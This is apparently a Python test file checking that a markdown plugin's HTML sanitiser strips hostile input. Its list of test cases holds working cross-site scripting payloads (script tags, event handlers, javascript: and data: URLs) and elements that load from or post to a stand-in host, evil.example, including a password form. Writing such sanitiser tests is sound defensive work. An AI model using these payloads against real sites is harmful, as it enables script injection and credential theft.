"""Sanitised HTML contains only allowed elements, attributes and addresses."""

from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.markdown_blocks.sanitise import COMMON_ATTRIBUTES, TAGS, URL_SCHEMES, allows, sanitise
from tests.markdown_blocks.world import RENDERER, world

_HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><circle/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x" target="_blank" ping="https://evil.example/">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:x">x</button></form>',
    '<p style="background:url(https://evil.example/)">x</p>',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div tabindex="5" role="alert" contenteditable>x</div>',
    "<template><script>alert(1)</script></template>",
    "<video src=x onerror=alert(1)></video><audio autoplay src=x>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](https://example.org/){onclick=alert(1)}",
    "[x](https://example.org/){href=javascript:alert(1)}",
    "## H {style=position:fixed onmouseover=alert(1)}",
    "<javascript:alert(1)>",
    "[r]: javascript:alert(1)\n\n[x][r]",
    "<!--><script>alert(1)</script>-->",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "/// quote | <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n///",
    '<x onclick="alert(1)">',
    "<h1>x</h1>",
    "\x02wzxhzdk:0\x03<script>",
)


def _assert_allowed(html: str) -> None:
    """Assert that ``html`` contains only allowed elements and attributes."""
    for element in BeautifulSoup(html, "html5lib").body.find_all(True):  # type: ignore[union-attr]  # html5lib makes a body
        assert element.name in TAGS
        for attribute, value in element.attrs.items():
            assert allows(element.name, attribute), (element.name, attribute)
            if attribute in ("href", "src"):
                scheme = re.match(r"[\x00-\x20]*([a-z][a-z0-9+.\-\x00-\x20]*):", str(value), re.IGNORECASE)
                assert scheme is None or scheme[1].lower() in URL_SCHEMES


@pytest.mark.parametrize("source", _HOSTILE)
def test_hostile_sources(source: str) -> None:
    """Hostile parts of a text are removed."""
    _assert_allowed(RENDERER.render(source, world()).body.html)
    _assert_allowed(sanitise(source))


@settings(deadline=None)
@given(
    st.lists(st.sampled_from(_HOSTILE) | st.text(max_size=20), max_size=5), st.sampled_from(["", "\n", "\n\n", "\n- "])
)
def test_combined_hostile_sources(pieces: list[str], between: str) -> None:
    """Combined hostile texts are sanitised too."""
    _assert_allowed(RENDERER.render(between.join(pieces), world()).body.html)


@given(st.text(alphabet="<>/=\"'& abonscriptx:\n", max_size=60))
def test_any_html(html: str) -> None:
    """Any input results in allowed HTML."""
    _assert_allowed(sanitise(html))


def test_allowlist_has_nothing_dangerous() -> None:
    """No script, form, embedded content, style or event handler is allowed."""
    assert not TAGS & {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "h1"}
    assert not any(name.startswith("on") or name == "style" for name in COMMON_ATTRIBUTES)
    assert "javascript" not in URL_SCHEMES
    assert "data" not in URL_SCHEMES


@pytest.mark.parametrize(
    "html",
    [
        '<div class="table" role="region" tabindex="0" aria-label="Table"><table></table></div>',
        '<section class="reflection" aria-labelledby="a"><h2 id="a">A</h2></section>',
        '<a href="tel:999">999</a> <a href="sms:85258">x</a> <a href="mailto:a@b.example">x</a>',
        '<a href="https://example.org/" rel="noreferrer">x</a> <a href="/x/">x</a> <a href="#x">x</a>',
        '<img src="/a.jpg" alt="a" width="1" height="2" loading="lazy" decoding="async">',
        '<dl><dt>a</dt><dd>b</dd></dl><address>c</address><time datetime="2026-11-22">today</time>',
        '<figure class="quote"><blockquote><p>a</p></blockquote><figcaption>b</figcaption></figure>',
    ],
)
def test_rendered_html_is_unchanged(html: str) -> None:
    """HTML of the renderer and of the theme's cards does not change."""
    assert sanitise(html) == html
